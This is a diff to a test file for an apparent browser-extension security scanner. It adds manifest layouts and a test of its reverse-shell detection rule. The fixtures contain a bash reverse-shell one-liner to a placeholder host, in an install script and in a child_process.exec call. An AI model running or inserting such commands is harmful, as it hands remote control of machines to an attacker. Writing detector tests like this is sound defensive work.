@@ -70,6 +70,24 @@ const LAYOUTS: readonly (readonly [string, string, (script: string) => Files])[]
     }),
   ],
   [
+    'a manifest with its type in front',
+    'src/background.ts',
+    (script) => ({
+      'package.json': PACKAGE,
+      'manifest.config.ts': `import type { ManifestV3Export } from '@crxjs/vite-plugin';\nexport default <ManifestV3Export>{ manifest_version: 3, name: 'Notes', version: '1.2', permissions: ['tabs'], host_permissions: ['<all_urls>'], background: { service_worker: 'src/background.ts' } };\n`,
+      'src/background.ts': script,
+    }),
+  ],
+  [
+    'a manifest that a bundler is told to write',
+    'src/background.ts',
+    (script) => ({
+      'package.json': PACKAGE,
+      'webpack.config.ts': `const made = (browser: string): string => { const manifest: Partial<Manifest> = { name: 'Notes', version: '1.2' }; switch (browser) { case 'chrome': manifest.manifest_version = 3; manifest.permissions = ['tabs']; manifest.host_permissions = ['<all_urls>']; manifest.background = { service_worker: 'background.js' }; } return JSON.stringify(manifest); };\nexport default { plugins: [write('manifest.json', made)] };\n`,
+      'src/background.ts': script,
+    }),
+  ],
+  [
     "a framework's settings and the names of files (WXT)",
     'entrypoints/background.ts',
     (script) => ({
@@ -122,6 +140,22 @@ describe('extensions in repositories', () => {
     const { findings } = await scan({ 'package.json': PACKAGE, 'src/manifest.ts': source });
     const { place } = findings.find(({ rule }) => rule === 'permission-powerful') ?? {};
     expect(place).toMatchObject({ path: 'src/manifest.ts', line: 8 });
+  });
+
+  it("fill a page that loads nothing with the script beside it, which runs on nobody's server", async () => {
+    const shown = 'export const Shell = ({ ip }) => <pre>{`bash -i >& /dev/tcp/${ip}/4242 0>&1`}</pre>;\n';
+    const { findings } = await scan({
+      'package.json': PACKAGE,
+      'src/manifest.json': manifest({ action: { default_popup: 'index.html' } }),
+      'src/index.html': '<div id="app"></div>',
+      'src/App.js': "import { Shell } from './Shell.js'; import './Post.js'; render(<Shell ip='203.0.113.7' />);\n",
+      'src/Shell.js': shown,
+      'src/Other.js': shown,
+      'src/Post.js': `require('child_process').exec("bash -i >& /dev/tcp/203.0.113.7/4242 0>&1");\n`,
+      'install.sh': 'bash -i >& /dev/tcp/203.0.113.7/4242 0>&1\n',
+    });
+    const told = findings.filter(({ rule }) => rule === 'reverse-shell').map(({ place }) => place.path);
+    expect(told.toSorted()).toEqual(['install.sh', 'src/Other.js', 'src/Post.js']);
   });
 
   it('leave what runs on a server to the rules for servers', async () => {
